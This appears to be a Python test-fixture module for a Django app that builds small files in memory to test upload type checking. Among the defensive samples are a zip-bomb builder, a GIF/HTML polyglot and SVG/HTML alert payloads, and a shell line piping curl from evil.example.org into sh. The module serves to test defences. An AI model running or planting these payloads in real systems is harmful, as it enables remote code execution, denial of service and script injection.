"""Small real files, built in memory: what an upload's first bytes really look like."""

import io
import struct
import zipfile
import zlib

from django.core.files.uploadedfile import SimpleUploadedFile

DOCX = "application/vnd.openxmlformats-officedocument.wordprocessingml.document"
ODT = "application/vnd.oasis.opendocument.text"


def _png_chunk(kind: bytes, data: bytes) -> bytes:
    crc = zlib.crc32(kind + data) & 0xFFFFFFFF
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", crc)


def png_bytes() -> bytes:
    """A valid greyscale PNG of one pixel."""
    header = struct.pack(">IIBBBBB", 1, 1, 8, 0, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + _png_chunk(b"IHDR", header)
        + _png_chunk(b"IDAT", zlib.compress(b"\x00\x00"))
        + _png_chunk(b"IEND", b"")
    )


def zip_bytes(members: dict[str, str]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for name, content in members.items():
            archive.writestr(name, content)
    return buffer.getvalue()


def docx_bytes() -> bytes:
    return zip_bytes(
        {
            "[Content_Types].xml": '<?xml version="1.0"?><Types xmlns="http://schemas.openxml'
            'formats.org/package/2006/content-types"/>',
            "word/document.xml": '<?xml version="1.0"?><w:document xmlns:w="http://schemas.'
            'openxmlformats.org/wordprocessingml/2006/main"/>',
        }
    )


def odt_bytes() -> bytes:
    # The OpenDocument rule: "mimetype" is the first member, stored, holding the type.
    return zip_bytes({"mimetype": ODT, "content.xml": '<?xml version="1.0"?><office/>'})


def zip_bomb(*, huge: str = "content.xml", mib: int = 210, mimetype: str | None = ODT) -> bytes:
    """A small OpenDocument-looking zip whose ``huge`` entry unpacks to ``mib`` MiB of zeros,
    written a MiB at a time so that building it costs the test little memory."""
    buffer = io.BytesIO()
    chunk = bytes(1024 * 1024)
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        if mimetype and huge != "mimetype":
            archive.writestr("mimetype", mimetype, compress_type=zipfile.ZIP_STORED)
        with archive.open(huge, "w") as entry:
            if huge == "mimetype" and mimetype:
                entry.write(mimetype.encode())
            for _ in range(mib):
                entry.write(chunk)
        archive.writestr("content.xml" if huge != "content.xml" else "styles.xml", "<office/>")
    return buffer.getvalue()


# A GIF with a page after it: what a browser told it is HTML would run.
GIF_POLYGLOT = (
    b"GIF89a\x01\x00\x01\x00\x80\x00\x00\x00\x00\x00\xff\xff\xff!\xf9\x04\x01\x00"
    b"\x00\x00\x00,\x00\x00\x00\x00\x01\x00\x01\x00\x00\x02\x02D\x01\x00;"
    b"<html><body><script>alert(document.domain)</script></body></html>"
)
PNG_BYTES = png_bytes()
EXE_BYTES = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + b"\x00" * 48
ELF_BYTES = b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 56
HTML_BYTES = b"<!DOCTYPE html><html><body><script>alert(1)</script></body></html>"
SVG_BYTES = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><rect/></svg>'
SCRIPT_BYTES = b"#!/bin/sh\ncurl https://evil.example.org | sh\n"
PLAIN_ZIP_BYTES = zip_bytes({"readme.txt": "just a zip"})


def upload(name: str, data: bytes, content_type: str = "application/octet-stream"):
    """An uploaded file as a view receives it; the browser's content type is not trusted."""
    return SimpleUploadedFile(name, data, content_type=content_type)
